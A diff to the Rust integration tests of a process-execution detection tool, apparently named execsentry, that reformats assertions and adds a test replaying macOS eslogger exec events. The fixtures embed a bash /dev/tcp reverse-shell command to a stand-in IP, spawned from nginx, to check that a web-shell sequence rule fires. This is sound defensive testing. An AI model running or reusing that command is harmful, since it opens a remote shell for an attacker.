@@ -31,8 +31,7 @@ fn alerts(stdout: &str) -> Vec<Value> {
 }
 
 fn at<'a>(v: &'a Value, path: &str) -> &'a Value {
-    lookup(v.as_object().expect("alert object"), path)
-        .unwrap_or_else(|| panic!("no {path} in {v}"))
+    lookup(v.as_object().expect("alert object"), path).unwrap_or_else(|| panic!("no {path} in {v}"))
 }
 
 fn replay(dir: &TempDir, rules: &str, input: &str) -> cli_support::Run {
@@ -95,7 +94,10 @@ fn a_sequence_alert_carries_every_event_and_the_last_one_on_top() {
     // Each event is whole, as read.
     assert_eq!(at(&events[0], "user.name"), "www-data");
     assert_eq!(at(&events[0], "event.kind"), "event");
-    assert_eq!(at(a, "execsentry.sequence.join_keys"), &json!(["web-1", 100]));
+    assert_eq!(
+        at(a, "execsentry.sequence.join_keys"),
+        &json!(["web-1", 100])
+    );
     assert!(
         at(a, "message")
             .as_str()
@@ -194,7 +196,9 @@ fn samples_and_tail_pipes() {
             ("tail-1".to_owned(), "a2".to_owned())
         ]
     );
-    let sample_events = at(&alerts[0], "execsentry.sequence.events").as_array().unwrap();
+    let sample_events = at(&alerts[0], "execsentry.sequence.events")
+        .as_array()
+        .unwrap();
     assert_eq!(at(&sample_events[0], "event.id"), "a1");
     assert_eq!(at(&sample_events[1], "event.id"), "b1");
     assert_eq!(at(&alerts[0], "execsentry.sequence.kind"), "sample");
@@ -233,8 +237,16 @@ fn the_throttle_applies_to_sequence_rules() {
     let r = replay(&dir, &rules, &ndjson(&events));
     assert_eq!(r.code, Some(0), "{}", r.stderr);
     assert_eq!(alerts(&r.stdout).len(), 1);
-    assert!(r.stderr.contains("suppressed:  2 by throttle"), "{}", r.stderr);
-    assert!(r.stderr.contains("seq-3 Pairs (max_signals 1 per 1h): 2"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("suppressed:  2 by throttle"),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains("seq-3 Pairs (max_signals 1 per 1h): 2"),
+        "{}",
+        r.stderr
+    );
 }
 
 #[test]
@@ -292,16 +304,65 @@ fn example_rule_over_an_audit_log() {
     let dir = TempDir::new("seq-audit");
     let reverse = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
     let log = [
-        exec("1795848210.000", 500, 200, 1, "/usr/sbin/nginx", &["nginx: worker process"]),
+        exec(
+            "1795848210.000",
+            500,
+            200,
+            1,
+            "/usr/sbin/nginx",
+            &["nginx: worker process"],
+        ),
         // Web shell 1: sh from nginx, then bash with /dev/tcp 1.2 s later → alert.
-        exec("1795848213.100", 501, 201, 200, "/usr/bin/dash", &["sh", "-c", &format!("bash -c '{reverse}'")]),
-        exec("1795848213.300", 502, 210, 1, "/usr/bin/bash", &["bash", "-l"]),
-        exec("1795848214.300", 503, 202, 201, "/usr/bin/bash", &["bash", "-c", reverse]),
+        exec(
+            "1795848213.100",
+            501,
+            201,
+            200,
+            "/usr/bin/dash",
+            &["sh", "-c", &format!("bash -c '{reverse}'")],
+        ),
+        exec(
+            "1795848213.300",
+            502,
+            210,
+            1,
+            "/usr/bin/bash",
+            &["bash", "-l"],
+        ),
+        exec(
+            "1795848214.300",
+            503,
+            202,
+            201,
+            "/usr/bin/bash",
+            &["bash", "-c", reverse],
+        ),
         // A login shell's child with /dev/tcp: its parent was not started by a web server.
-        exec("1795848214.400", 504, 211, 210, "/usr/bin/bash", &["bash", "-c", reverse]),
+        exec(
+            "1795848214.400",
+            504,
+            211,
+            210,
+            "/usr/bin/bash",
+            &["bash", "-c", reverse],
+        ),
         // Web shell 2: the /dev/tcp child comes 6 s later, past maxspan.
-        exec("1795848220.000", 505, 203, 200, "/usr/bin/dash", &["sh", "-c", "id"]),
-        exec("1795848226.000", 506, 204, 203, "/usr/bin/bash", &["bash", "-c", reverse]),
+        exec(
+            "1795848220.000",
+            505,
+            203,
+            200,
+            "/usr/bin/dash",
+            &["sh", "-c", "id"],
+        ),
+        exec(
+            "1795848226.000",
+            506,
+            204,
+            203,
+            "/usr/bin/bash",
+            &["bash", "-c", reverse],
+        ),
     ]
     .concat();
     let file = dir.write("audit.log", &log);
@@ -332,6 +393,127 @@ fn example_rule_over_an_audit_log() {
         at(&events[0], "process.entity_id"),
         at(&events[1], "process.parent.entity_id")
     );
-    assert_eq!(at(a, "threat.technique.subtechnique.id"), &json!(["T1505.003"]));
+    assert_eq!(
+        at(a, "threat.technique.subtechnique.id"),
+        &json!(["T1505.003"])
+    );
     assert!(r.stderr.contains("events:      7"), "{}", r.stderr);
+}
+
+/// One eslogger exec message (event type 9), minimal as the reader accepts it: the target image
+/// with its token and its parent's token.
+fn es_exec(time: &str, pid: u32, pv: u32, parent: (u32, u32), exe: &str, args: &[&str]) -> String {
+    let token = |pid: u32, pv: u32| json!({"pid": pid, "pidversion": pv, "euid": 501, "ruid": 501, "egid": 20, "rgid": 20, "auid": 501, "asid": 100});
+    let target = json!({
+        "audit_token": token(pid, pv),
+        "parent_audit_token": token(parent.0, parent.1),
+        "ppid": parent.0,
+        "executable": {"path": exe},
+        "signing_id": "com.example", "team_id": null, "is_platform_binary": false
+    });
+    // The instigator is the image being replaced: the same pid, the previous pidversion.
+    let mut instigator = target.clone();
+    instigator["audit_token"] = token(pid, pv - 1);
+    let line = json!({
+        "version": 9, "time": time, "event_type": 9, "seq_num": pv,
+        "process": instigator,
+        "event": {"exec": {"target": target, "args": args}}
+    });
+    format!("{line}\n")
+}
+
+/// The example rule over eslogger messages: the same activity as the audit log above, seen by
+/// Endpoint Security. The parent is found by its audit token (pid, pidversion), so the join on
+/// entity ids holds across the fork and exec.
+#[test]
+fn example_rule_over_eslogger() {
+    let dir = TempDir::new("seq-eslogger");
+    let reverse = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
+    let log = [
+        es_exec(
+            "2026-11-28T06:43:30.000000000Z",
+            200,
+            1000,
+            (1, 1),
+            "/opt/homebrew/bin/nginx",
+            &["nginx: worker process"],
+        ),
+        es_exec(
+            "2026-11-28T06:43:33.100000000Z",
+            201,
+            1011,
+            (200, 1000),
+            "/bin/sh",
+            &["sh", "-c", &format!("bash -c '{reverse}'")],
+        ),
+        es_exec(
+            "2026-11-28T06:43:33.300000000Z",
+            210,
+            1031,
+            (1, 1),
+            "/bin/zsh",
+            &["-zsh"],
+        ),
+        es_exec(
+            "2026-11-28T06:43:34.300000000Z",
+            202,
+            1022,
+            (201, 1011),
+            "/bin/bash",
+            &["bash", "-c", reverse],
+        ),
+        es_exec(
+            "2026-11-28T06:43:34.400000000Z",
+            211,
+            1041,
+            (210, 1031),
+            "/bin/bash",
+            &["bash", "-c", reverse],
+        ),
+        es_exec(
+            "2026-11-28T06:43:40.000000000Z",
+            203,
+            1051,
+            (200, 1000),
+            "/bin/sh",
+            &["sh", "-c", "id"],
+        ),
+        es_exec(
+            "2026-11-28T06:43:46.000000000Z",
+            204,
+            1061,
+            (203, 1051),
+            "/bin/bash",
+            &["bash", "-c", reverse],
+        ),
+    ]
+    .concat();
+    let file = dir.write("es.ndjson", &log);
+    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(EXAMPLE_RULE);
+    let r = run(&[
+        "replay".as_ref(),
+        "--format".as_ref(),
+        "eslogger".as_ref(),
+        "--no-builtin-rules".as_ref(),
+        "--rules".as_ref(),
+        example.as_os_str(),
+        file.as_os_str(),
+    ]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    let alerts = alerts(&r.stdout);
+    assert_eq!(alerts.len(), 1, "{}\n{}", r.stdout, r.stderr);
+    let a = &alerts[0];
+    assert_eq!(at(a, "rule.id"), EXAMPLE_ID);
+    assert_eq!(at(a, "process.pid"), 202);
+    // Endpoint Security's own facts ride along (host.* is the replaying host's).
+    assert_eq!(at(a, "macos.es.pidversion"), 1022);
+    assert_eq!(at(a, "process.parent.name"), "sh");
+    let events = at(a, "execsentry.sequence.events").as_array().unwrap();
+    assert_eq!(events.len(), 2);
+    assert_eq!(at(&events[0], "process.pid"), 201);
+    assert_eq!(at(&events[0], "process.parent.name"), "nginx");
+    assert_eq!(
+        at(&events[0], "process.entity_id"),
+        at(&events[1], "process.parent.entity_id")
+    );
 }
